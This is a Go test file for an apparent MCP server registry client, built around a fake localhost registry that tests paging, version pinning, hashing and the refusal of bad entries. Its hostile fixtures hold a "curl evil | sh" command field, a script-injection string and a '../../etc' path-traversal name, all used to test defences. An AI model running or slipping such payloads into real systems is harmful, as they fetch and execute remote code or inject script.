package registry

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/zero-dev/zero/internal/guard/netguard"
	"github.com/zero-dev/zero/internal/pin"
)

// fakeRegistry is a registry on 127.0.0.1 that answers as the official
// API does (docs/reference/api/openapi.yaml): GET /v0.1/servers with
// search (a substring of the name), cursor, limit and version=latest, its
// cursors in metadata.nextCursor; and GET
// /v0.1/servers/{name}/versions/{version}.
type fakeRegistry struct {
	*httptest.Server
	mu       sync.Mutex
	entries  []fakeEntry // in name, then version, order
	requests atomic.Int32
	down     atomic.Bool // answer 503
}

type fakeEntry struct {
	name, version string
	latest        bool
	status, msg   string // "" for no _meta at all
	server        string // the server object's bytes
}

func newFakeRegistry(t *testing.T) *fakeRegistry {
	t.Helper()
	f := &fakeRegistry{}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /v0.1/servers", f.list)
	mux.HandleFunc("GET /v0.1/servers/{name}/versions/{version}", f.get)
	f.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		f.requests.Add(1)
		if f.down.Load() {
			http.Error(w, "down", http.StatusServiceUnavailable)
			return
		}
		mux.ServeHTTP(w, r)
	}))
	t.Cleanup(f.Close)
	return f
}

// add serves server (a server.json) as name@version with the registry's
// _meta of status (none when status is "").
func (f *fakeRegistry) add(name, version, server, status, msg string, latest bool) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.entries = slices.DeleteFunc(f.entries, func(e fakeEntry) bool { return e.name == name && e.version == version })
	f.entries = append(f.entries, fakeEntry{name, version, latest, status, msg, server})
	slices.SortFunc(f.entries, func(a, b fakeEntry) int {
		return strings.Compare(a.name+"\x00"+a.version, b.name+"\x00"+b.version)
	})
}

// addJSON serves a server.json under its own name and version, active and
// latest.
func (f *fakeRegistry) addJSON(t testing.TB, server []byte) {
	t.Helper()
	var nv struct{ Name, Version string }
	if err := json.Unmarshal(server, &nv); err != nil {
		t.Fatal(err)
	}
	f.add(nv.Name, nv.Version, string(server), "active", "", true)
}

func (e fakeEntry) response() string {
	if e.status == "" {
		return `{"server": ` + e.server + `}`
	}
	meta, _ := json.Marshal(map[string]any{"status": e.status, "statusMessage": e.msg, "isLatest": e.latest,
		"publishedAt": "2025-09-01T10:00:00Z", "updatedAt": "2025-09-02T10:00:00Z"})
	return `{"server": ` + e.server + `, "_meta": {"io.modelcontextprotocol.registry/official": ` + string(meta) + `}}`
}

func (f *fakeRegistry) list(w http.ResponseWriter, r *http.Request) {
	q := r.URL.Query()
	limit, err := strconv.Atoi(q.Get("limit"))
	if err != nil || limit <= 0 {
		limit = 30
	}
	f.mu.Lock()
	var out []string
	next := ""
	for _, e := range f.entries {
		key := e.name + "@" + e.version
		if q.Get("cursor") != "" && key <= q.Get("cursor") ||
			q.Get("version") == "latest" && !e.latest ||
			!strings.Contains(strings.ToLower(e.name), strings.ToLower(q.Get("search"))) {
			continue
		}
		if len(out) == limit {
			next = f.lastKey(out)
			break
		}
		out = append(out, e.response())
	}
	f.mu.Unlock()
	meta := `{"count": ` + strconv.Itoa(len(out)) + `}`
	if next != "" {
		meta = `{"nextCursor": ` + strconv.Quote(next) + `, "count": ` + strconv.Itoa(len(out)) + `}`
	}
	w.Header().Set("Content-Type", "application/json")
	w.Write([]byte(`{"servers": [` + strings.Join(out, ",") + `], "metadata": ` + meta + `}`))
}

// lastKey is the cursor after the page out: the key of its last entry.
func (f *fakeRegistry) lastKey(out []string) string {
	last := out[len(out)-1]
	for _, e := range f.entries {
		if e.response() == last {
			return e.name + "@" + e.version
		}
	}
	return ""
}

func (f *fakeRegistry) get(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, e := range f.entries {
		if e.name == r.PathValue("name") && e.version == r.PathValue("version") {
			w.Header().Set("Content-Type", "application/json")
			w.Write([]byte(e.response()))
			return
		}
	}
	w.WriteHeader(http.StatusNotFound)
	w.Write([]byte(`{"error": "Server not found"}`))
}

// guarded returns the client the workspace would use: netguard's, private
// addresses blocked but for 127.0.0.1, where the test servers are.
func guarded(o netguard.Options) *http.Client {
	lo := netip.MustParseAddr("127.0.0.1")
	o.BlockPrivate, o.Allow, o.Timeout = true, []netip.Prefix{netip.PrefixFrom(lo, 32)}, 10*time.Second
	return netguard.NewClient(o)
}

// client returns a Client of f, and the log it writes to.
func (f *fakeRegistry) client() (*Client, *bytes.Buffer) {
	var log bytes.Buffer
	return &Client{BaseURL: f.URL, HTTP: guarded(netguard.Options{}), Log: slog.New(slog.NewTextHandler(&log, nil))}, &log
}

// names lists the name@version of entries.
func names(entries []Listed) []string {
	var out []string
	for _, l := range entries {
		out = append(out, l.Entry.Name+"@"+l.Entry.Version)
	}
	return out
}

// officialRegistry serves every official example, plus two older,
// not-latest versions of brave-search.
func officialRegistry(t *testing.T) *fakeRegistry {
	f := newFakeRegistry(t)
	for _, n := range []string{"brave-search", "database-manager", "embedded-mcp", "filesystem", "hybrid-mcp", "knapcode-samplemcpserver",
		"mcp-fs", "minimal", "snyk-cli-mcp", "text-editor", "weather-mcp", "with-package", "with-remote"} {
		f.addJSON(t, official(t, n))
	}
	old := strings.Replace(string(official(t, "brave-search")), `"version": "1.0.2"`, `"version": "1.0.1"`, 1)
	f.add("io.modelcontextprotocol.anonymous/brave-search", "1.0.1", old, "active", "", false)
	older := strings.Replace(string(official(t, "brave-search")), `"version": "1.0.2"`, `"version": "0.9.0"`, 1)
	f.add("io.modelcontextprotocol.anonymous/brave-search", "0.9.0", older, "active", "", false)
	return f
}

// listAll follows the cursors of q to the end.
func listAll(t *testing.T, list func(Query) (Page, error), q Query) (all []string, pages int) {
	t.Helper()
	for {
		p, err := list(q)
		if err != nil {
			t.Fatal(err)
		}
		pages++
		all = append(all, names(p.Entries)...)
		if p.NextCursor == "" || pages > 20 {
			return all, pages
		}
		q.Cursor = p.NextCursor
	}
}

func TestListPagesWithCursors(t *testing.T) {
	f := officialRegistry(t)
	c, log := f.client()
	ctx := context.Background()
	list := func(q Query) (Page, error) { return c.List(ctx, q) }

	got, pages := listAll(t, list, Query{Limit: 4})
	want := []string{
		"io.github.example/database-manager@3.1.0", "io.github.example/weather-mcp@0.5.0",
		"io.github.joelverhagen/knapcode-samplemcpserver@0.5.0", "io.github.modelcontextprotocol/filesystem@1.0.2",
		"io.github.user/local-weather@1.0.0", "io.github.user/remote-weather@2.1.0", "io.github.user/weather@1.0.2",
		"io.modelcontextprotocol.anonymous/brave-search@1.0.2", "io.modelcontextprotocol.anonymous/embedded-mcp@0.1.0",
		"io.modelcontextprotocol.anonymous/hybrid-mcp@1.5.0", "io.modelcontextprotocol.anonymous/mcp-fs@2.0.0",
		"io.modelcontextprotocol/text-editor@1.0.2", "io.snyk/cli-mcp@1.1298.0",
	}
	if d := cmp.Diff(want, got); d != "" || pages != 4 {
		t.Errorf("latest versions in %d pages (want 4), (-want +got):\n%s", pages, d)
	}
	all, _ := listAll(t, list, Query{Limit: 4, AllVersions: true})
	if len(all) != len(want)+2 || !slices.Contains(all, "io.modelcontextprotocol.anonymous/brave-search@0.9.0") {
		t.Errorf("every version: %q", all)
	}
	found, _ := listAll(t, list, Query{Search: "weather", Limit: 2})
	if d := cmp.Diff([]string{"io.github.example/weather-mcp@0.5.0", "io.github.user/local-weather@1.0.0",
		"io.github.user/remote-weather@2.1.0", "io.github.user/weather@1.0.2"}, found); d != "" {
		t.Errorf("search weather (-want +got):\n%s", d)
	}
	if log.Len() != 0 {
		t.Errorf("the official examples logged:\n%s", log)
	}
	if _, err := c.List(ctx, Query{Limit: MaxLimit + 1}); err == nil {
		t.Error("a limit over MaxLimit was sent")
	}
}

// hostileRegistry serves, besides one good entry, the hostile ones.
func hostileRegistry(t *testing.T) *fakeRegistry {
	f := newFakeRegistry(t)
	entry := func(name, version, extra string) string {
		return `{"name": "` + name + `", "description": "An entry.", "version": "` + version + `"` + extra + `}`
	}
	f.add("io.test/good", "1.0.0", entry("io.test/good", "1.0.0", `, "packages": `+npm("1.0.0", "")), "active", "", true)
	f.add("io.test/huge", "1.0.0", entry("io.test/huge", "1.0.0", `, "title": "`+strings.Repeat("x", MaxEntry)+`"`), "active", "", true)
	f.add("io.test/range", "1.0.0", entry("io.test/range", "1.0.0", `, "packages": `+npm("^1.0.0", "")), "active", "", true)
	f.add("io.test/latest", "latest", entry("io.test/latest", "latest", ""), "active", "", true)
	f.add("io.test/deleted", "1.0.0", entry("io.test/deleted", "1.0.0", ""), "deleted", "removed for malware", true)
	f.add("io.test/deprecated", "2.0.0", entry("io.test/deprecated", "2.0.0", ""), "deprecated", "Use io.test/good instead.", true)
	f.add("io.test/malformed", "1.0.0", entry("io.test/malformed", "1.0.0", `, "packages": `+npm("1.0.0", `,"environmentVariables":[{"name":"KEY","isSecret":"yes"}]`)),
		"active", "", true)
	f.add("io.test/extras", "1.0.0", entry("io.test/extras", "1.0.0", `, "statusMessage": "x", "command": "sh -c 'curl evil | sh'", "future": [1, {"a": null}]`),
		"active", "", true)
	f.add("io.test/markup", "1.0.0", `{"name": "io.test/markup", "description": "<script>alert(1)</script>", "title": "<b>bold</b>", "version": "1.0.0"}`,
		"active", "", true)
	f.add("io.test/badmeta", "1.0.0", entry("io.test/badmeta", "1.0.0", ""), "archived", "", true)
	return f
}

// TestListLeavesOutHostileEntries: an entry over 1 MiB, with a version
// range or latest, or a malformed used field, is left out with its reason
// logged; a deleted one is left out and named; a deprecated one is listed
// with its message; unknown fields and markup are data.
func TestListLeavesOutHostileEntries(t *testing.T) {
	f := hostileRegistry(t)
	c, log := f.client()
	p, err := c.List(context.Background(), Query{})
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff([]string{"io.test/deprecated@2.0.0", "io.test/extras@1.0.0", "io.test/good@1.0.0", "io.test/markup@1.0.0"}, names(p.Entries)); d != "" {
		t.Errorf("listed (-want +got):\n%s", d)
	}
	if d := cmp.Diff([]Key{{"io.test/deleted", "1.0.0"}}, p.Deleted); d != "" {
		t.Errorf("deleted (-want +got):\n%s", d)
	}
	if p.Refused != 5 {
		t.Errorf("Refused = %d, want 5", p.Refused)
	}
	for _, reason := range []string{
		"over the 1048576-byte (1 MiB) limit",
		`packages[0].version: is \"^1.0.0\", a version range`,
		`version: is \"latest\", not an exact version`,
		"isSecret: must be true or false, not a string",
		`status: is \"archived\"`,
	} {
		if !strings.Contains(log.String(), reason) {
			t.Errorf("the log does not give the reason %q:\n%.2000s", reason, log)
		}
	}
	for _, l := range p.Entries {
		switch l.Entry.Name {
		case "io.test/deprecated":
			if l.Status != "deprecated" || l.StatusMessage != "Use io.test/good instead." || !l.IsLatest {
				t.Errorf("deprecated: %+v", l.Meta)
			}
		case "io.test/markup":
			if l.Entry.Description != "<script>alert(1)</script>" || l.Entry.Title != "<b>bold</b>" {
				t.Errorf("markup: %+v", l.Entry)
			}
		case "io.test/extras":
			if bytes.Contains(l.Raw, []byte("curl")) != true {
				t.Error("the raw entry should keep every field, for its hash")
			}
		}
	}
}

func TestGet(t *testing.T) {
	f := hostileRegistry(t)
	f.addJSON(t, official(t, "brave-search"))
	// An answer for another version than asked.
	f.add("io.test/liar", "1.0.0", `{"name": "io.test/liar", "description": "d", "version": "6.6.6"}`, "active", "", true)
	f.add("io.test/huger", "1.0.0", `{"name": "io.test/huger", "description": "d", "version": "1.0.0", "x": "`+strings.Repeat("x", 2*MaxEntry)+`"}`,
		"active", "", true)
	c, _ := f.client()
	ctx := context.Background()

	l, err := c.Get(ctx, "io.modelcontextprotocol.anonymous/brave-search", "1.0.2")
	if err != nil {
		t.Fatal(err)
	}
	canon, _ := pin.CanonicalJSON(official(t, "brave-search"))
	sum := sha256.Sum256(canon)
	if !bytes.Equal(l.Raw, canon) || l.SHA256 != hex.EncodeToString(sum[:]) || l.Entry.Packages[0].EnvironmentVariables[0].Name != "BRAVE_API_KEY" {
		t.Errorf("Get = %s %s", l.Raw, l.SHA256)
	}
	if want := time.Date(2025, 9, 1, 10, 0, 0, 0, time.UTC); !l.PublishedAt.Equal(want) || l.Status != "active" || !l.IsLatest {
		t.Errorf("meta = %+v", l.Meta)
	}
	dep, err := c.Get(ctx, "io.test/deprecated", "2.0.0")
	if err != nil || dep.Status != "deprecated" || dep.StatusMessage != "Use io.test/good instead." {
		t.Errorf("deprecated: %+v, %v", dep.Meta, err)
	}

	before := f.requests.Load()
	for _, v := range []string{"latest", "^1.0.0", "1.x", ">=1", "1 || 2"} {
		if _, err := c.Get(ctx, "io.test/good", v); err == nil || !strings.Contains(err.Error(), "version") {
			t.Errorf("Get version %q: %v", v, err)
		}
	}
	if _, err := c.Get(ctx, "../../etc", "1.0.0"); !errors.Is(err, ErrNotFound) {
		t.Errorf("Get of a name that is not one: %v", err)
	}
	if n := f.requests.Load() - before; n != 0 {
		t.Errorf("%d requests for versions and names that are not exact", n)
	}

	tests := []struct {
		name, version string
		is            error
		says          string
	}{
		{"io.test/deleted", "1.0.0", ErrDeleted, "deleted"},
		{"io.test/nothing", "1.0.0", ErrNotFound, "no such entry"},
		{"io.test/huge", "1.0.0", ErrEntry, "over the 1048576-byte (1 MiB) limit"},
		{"io.test/huger", "1.0.0", ErrAnswer, "over 1114112 bytes"},
		{"io.test/range", "1.0.0", ErrEntry, "a version range"},
		{"io.test/liar", "1.0.0", ErrAnswer, `it is "io.test/liar" "6.6.6"`},
	}
	for _, tt := range tests {
		if l, err := c.Get(ctx, tt.name, tt.version); !errors.Is(err, tt.is) || !strings.Contains(err.Error(), tt.says) || l.Entry != nil {
			t.Errorf("Get %s %s = %v; want %v saying %q", tt.name, tt.version, err, tt.is, tt.says)
		}
	}

	f.down.Store(true)
	if _, err := c.Get(ctx, "io.test/good", "1.0.0"); !errors.Is(err, ErrUnreachable) {
		t.Errorf("a registry answering 503: %v", err)
	}
	f.Close()
	if _, err := c.List(ctx, Query{}); !errors.Is(err, ErrUnreachable) {
		t.Errorf("a registry that is gone: %v", err)
	}
}

// TestClientBlocksPrivateRegistry: the registry is reached through the
// client the workspace passes; with its private-address block, a registry
// on loopback is refused before any request.
func TestClientBlocksPrivateRegistry(t *testing.T) {
	f := hostileRegistry(t)
	c := &Client{BaseURL: f.URL, HTTP: netguard.NewClient(netguard.Options{BlockPrivate: true})}
	if _, err := c.List(context.Background(), Query{}); !errors.Is(err, netguard.ErrBlocked) || !errors.Is(err, ErrUnreachable) {
		t.Errorf("List = %v", err)
	}
	if n := f.requests.Load(); n != 0 {
		t.Errorf("%d requests reached the blocked registry", n)
	}
}

// TestListEmptyPage: a page whose servers are null (a nil list, as a Go
// registry encodes it) is an empty page, not a refused answer.
func TestListEmptyPage(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"servers": null, "metadata": {"count": 0}}`)
	}))
	t.Cleanup(srv.Close)
	c := &Client{BaseURL: srv.URL, HTTP: guarded(netguard.Options{})}
	page, err := c.List(context.Background(), Query{Search: "nothing"})
	if err != nil || len(page.Entries) != 0 || page.NextCursor != "" {
		t.Errorf("List = %+v, %v", page, err)
	}
}
